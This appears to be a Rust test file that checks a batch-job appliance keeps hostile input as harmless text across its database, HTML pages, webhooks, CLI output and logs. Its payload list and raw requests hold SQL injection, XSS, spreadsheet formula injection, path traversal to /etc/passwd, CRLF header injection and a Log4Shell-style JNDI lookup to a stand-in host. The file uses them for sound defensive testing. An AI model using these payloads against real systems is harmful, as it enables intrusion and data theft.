//! Text that is SQL, HTML, a formula, a path or a terminal command elsewhere stays plain text here:
//! in the database, the answers, the tables and the log.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::appliance::{Appliance, assert_results, call, sign_bytes, submission};
use batchkeeper::base::escape::escape_controls;
use serde_json::{Value, json};

/// Texts that must arrive unchanged.
const NASTY: [&str; 16] = [
    "'; DROP TABLE batch_jobs; --",
    "\" OR \"\"=\"",
    "Robert'); DELETE FROM requests WHERE ('1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</p></body>&lt;&amp;&#39;",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "a\r\nX-Injected: yes\r\n\r\n[2026-01-01T00:00:00.000Z ERROR] event=forged",
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{1}\u{2}\u{8}\u{b}\u{c}\u{1f}\u{7f}\u{85}\u{9b}",
    "\u{202e}gnp.exe \u{2066}\u{2028}\u{2029}\u{feff}",
    "😀\u{301}\u{10ffff}\u{fffd}",
    "\\u0000 \\x00 %00 \\",
];

#[test]
fn hostile_text_stays_text_everywhere() {
    let appliance = Appliance::with("log = \"debug\"");
    let lots: Vec<Value> = NASTY
        .iter()
        .enumerate()
        .map(|(number, text)| {
            json!({"lot_id": text, "additional_info": format!("{number} {text}"), "images": [appliance.image("truck.jpg")]})
        })
        .collect();
    let languages = ["en", "de"];
    let mut body = submission(&lots, &languages);
    body["webhook_url"] = json!(appliance.hook("nasty"));
    let answer = appliance.submit(&body);
    assert_eq!(answer.status, 201, "{}", answer.json());
    let job = answer.json()["job_id"].as_str().unwrap().to_owned();

    // The unchanged text, with the results escaped as HTML, in the order of submission.
    let results = appliance.results(&job);
    assert_results(&results, &lots, &languages, &[]);
    for lot in results["results"]["lots"].as_array().unwrap() {
        for description in lot["descriptions"].as_array().unwrap() {
            let html = description["damages"].as_str().unwrap();
            for tag in html.split('<').skip(1) {
                let ours = ["p>", "/p>", "br>"].iter().any(|ours| tag.starts_with(ours));
                assert!(ours, "{html}");
            }
        }
    }
    let delivered = appliance.delivered("nasty", 1);
    let found: Value = serde_json::from_str(delivered[0]["body"].as_str().unwrap()).unwrap();
    for (sent, found) in lots.iter().zip(found["lots"].as_array().unwrap()) {
        assert_eq!(found["lot_id"], sent["lot_id"]);
    }
    for (position, text) in NASTY.iter().enumerate() {
        let query = format!("SELECT lot_id FROM batch_lots WHERE position = {position}");
        assert_eq!(appliance.cell::<String>(&query), *text);
    }

    hostile_requests(&appliance, &job);
    pages(&appliance, &lots);

    // The output for people and programs.
    for arguments in [
        &["jobs"][..],
        &["jobs", "show", &job],
        &["batches"],
        &["alerts"],
        &["doctor"],
    ] {
        let plain = appliance.run(arguments);
        let shown = format!("{}{}", plain.out, plain.err);
        assert_harmless(&arguments.join(" "), &shown);
        let json = appliance.run(&[arguments, &["--json"]].concat()).out;
        let values = serde_json::Deserializer::from_str(&json).into_iter::<Value>();
        assert!(values.map(Result::unwrap).count() > 0, "{arguments:?}");
    }
    let log = appliance.printed();
    assert_harmless("the log", &log);
    for line in log.lines() {
        // Each record is one line, and each line is a record.
        assert!(line.starts_with("[2") && line.contains("Z "), "{line}");
        assert!(!line.starts_with("[2026-01-01"), "{line}");
    }
    assert!(log.contains("/api/v1/nowhere"));
    appliance.assert_sound();
}

/// The status page with such texts in every place that can show a stranger's text: lots that fail,
/// reasons of failures, alerts, receivers.
fn pages(appliance: &Appliance, lots: &[Value]) {
    let mut lots = lots.to_vec();
    for lot in &mut lots {
        lot["images"] = json!([appliance.image("missing.jpg")]);
    }
    let job = appliance.job(&lots, &["en"]);
    appliance.ended(&job);
    let database = rusqlite::Connection::open(appliance.database()).unwrap();
    database.busy_timeout(Duration::from_mins(1)).unwrap();
    for text in NASTY {
        let run = |sql: &str| {
            database
                .execute(sql, rusqlite::named_params! {":text": text, ":job": job})
                .unwrap()
        };
        run("INSERT INTO alerts (kind, subject, message, opened_at, closed_at)
             SELECT 'invariant', :text, :text, updated_at, updated_at FROM batch_jobs WHERE id = :job");
        run("INSERT INTO alerts (kind, subject, message, opened_at)
             SELECT 'invariant', 'batch:' || :text, :text, updated_at FROM batch_jobs WHERE id = :job");
        run("INSERT INTO events (at, job_id, batch_id, kind, detail)
             SELECT updated_at, :job, 1, :text, :text FROM batch_jobs WHERE id = :job");
        run("INSERT OR REPLACE INTO pauses (scope, reason, since)
             SELECT 'model:' || :text, :text, updated_at FROM batch_jobs WHERE id = :job");
        run(
            "INSERT INTO webhook_deliveries (batch_job_id, url, state, error_message, created_at)
             SELECT :job, :text, 'failed', :text, updated_at FROM batch_jobs WHERE id = :job",
        );
    }
    let shown: Vec<String> = ["/", "/alerts", "/webhooks", "/batches/1", &format!("/jobs/{job}")]
        .iter()
        .map(|path| {
            let answer = call("GET", &format!("{}{path}", appliance.ops), &[], b"");
            assert_eq!(answer.status, 200, "{path}");
            String::from_utf8(answer.body).unwrap()
        })
        .collect();
    for page in &shown {
        assert_harmless("a page", page);
        assert_eq!(page.matches("<script").count(), 1, "{page}");
        for text in NASTY {
            let safe = escaped_for_a_page(text);
            let raw = page.matches(text).count();
            assert!(raw == 0 || safe == text, "{text:?}");
        }
    }
    let of_job = &shown[4];
    for text in NASTY {
        let safe = escaped_for_a_page(text);
        for page in &shown[1..4] {
            assert!(page.contains(&safe), "{text:?}: {page}");
        }
        // As a lot's id, an event, a receiver, a reason.
        assert!(of_job.matches(&safe).count() >= 4, "{text:?}: {of_job}");
    }
    database
        .execute_batch(
            "DELETE FROM pauses; DELETE FROM webhook_deliveries WHERE host = '';
             UPDATE alerts SET closed_at = opened_at WHERE closed_at IS NULL",
        )
        .unwrap();
}

/// Checks that nothing moves the cursor, and that only the line feed ends a line.
fn assert_harmless(what: &str, text: &str) {
    let harmful = text.chars().find(|c| {
        (c.is_control() && *c != '\n') || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    });
    assert_eq!(harmful, None, "{what}");
}

/// Sends requests with such text in every part. Each must be refused in the usual form, with a
/// complete answer.
fn hostile_requests(appliance: &Appliance, job: &str) {
    let signature = sign_bytes(job.as_bytes());
    let ask = |head: &str| {
        let mut stream = TcpStream::connect(appliance.api.strip_prefix("http://").unwrap()).unwrap();
        let request = format!("{head}\r\nHost: h\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        let (head, body) = answer.split_once("\r\n\r\n").unwrap();
        assert!(!head.to_lowercase().contains("injected"), "{head}");
        assert!(head.contains("\r\nContent-Type: application/json"), "{head}");
        let body: Value = serde_json::from_str(body).unwrap();
        (head[9..12].parse::<u16>().unwrap(), body)
    };
    for path in [
        "/api/v1/nowhere/%0d%0aX-Injected:%20yes",
        "/api/v1/nowhere/<script>alert(1)</script>",
        "/api/v1/nowhere/%1b[31m%00%ff%c0%80",
        "/api/v1/batch-status/../../etc/passwd",
        "/api/v1/batch-results/%2e%2e%2f%2e%2e%2fetc",
        "/api/v1/batch-status/'%20OR%20'1'='1",
        "/api/v1/batch-jobs?status='%20OR%201=1--&limit=1%3BDROP",
    ] {
        let (found, body) = ask(&format!("GET {path} HTTP/1.1\r\nX-Signature: {signature}"));
        // An unknown job or a wrong signature: both answers reveal nothing more.
        assert!((400..500).contains(&found), "{path}: {body}");
        assert!(body["code"].is_string(), "{path}: {body}");
    }
    for client in NASTY {
        let client: String = client.chars().filter(|c| !c.is_control()).collect();
        let (status, body) = ask(&format!(
            "GET /api/v1/batch-status/{job} HTTP/1.1\r\nX-Client-Id: {client}\r\nX-Signature: {signature}"
        ));
        assert_eq!((status, &body["code"]), (403, &json!("INVALID_SIGNATURE")));
    }
    // NUL and lone surrogates are refused.
    for text in ["a\\u0000b", "\\ud800"] {
        let lots = format!("[{{\"lot_id\":\"{text}\",\"images\":[\"https://i.example/\"]}}]");
        let body = format!("{{\"version\":\"1.0.0\",\"languages\":[\"en\"],\"lots\":{lots}}}");
        let signature = sign_bytes(body.as_bytes());
        let answer = appliance.post(&[("X-Signature", &signature)], body.as_bytes());
        assert_eq!(answer.status, 422, "{}", answer.json());
    }
}

/// The text as a page holds it. An apostrophe stays: in text it means nothing, and every attribute of a page
/// stands between double quotes.
fn escaped_for_a_page(text: &str) -> String {
    escape_controls(text)
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}
